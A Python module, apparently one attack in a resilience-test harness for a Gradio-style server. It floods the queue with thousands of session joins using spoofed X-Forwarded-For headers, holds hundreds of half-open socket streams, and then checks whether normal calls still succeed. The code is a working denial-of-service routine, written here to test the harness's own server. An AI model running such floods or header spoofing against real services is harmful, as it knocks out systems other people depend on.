"""Sessions: many that join the queue and never listen, many streams that are half open."""

import socket

from attacks.common import Outcome, at_once, post
from common.browsing import HOST, Server

JOINS, STREAMS = 2000, 400


def attack(server: Server, scale: float) -> Outcome:
    outcome = Outcome()

    def join(i: int):
        body = {"data": ["vae_2", 10, i, ""], "session_hash": f"unheard{i}"}
        return post(server, "call/generate", body, {"X-Forwarded-For": f"198.51.100.{i % 250}"})

    for answer in at_once(join, max(20, int(JOINS * scale))):
        outcome.count("join", answer)
    port = int(server.address.rstrip("/").rpartition(":")[2])
    streams = []
    try:
        for i in range(max(20, int(STREAMS * scale))):
            stream = socket.create_connection((HOST, port), timeout=20)
            streams.append(stream)
            path = f"/gradio_api/heartbeat/half{i}" if i % 2 else f"/gradio_api/queue/data?session_hash=unheard{i}"
            stream.sendall(f"GET {path} HTTP/1.1\r\nHost: {HOST}:{port}\r\n\r\n".encode())
        outcome.count("a call beside half-open streams", post(server, "run/generate", {"data": ["vae_2", 1, 1, ""]}))
    finally:
        for stream in streams:
            stream.close()
    outcome.tried += len(streams)
    outcome.answered += len(streams)
    outcome.count("a call after them", post(server, "run/generate", {"data": ["vae_2", 1, 1, ""]}))
    return outcome
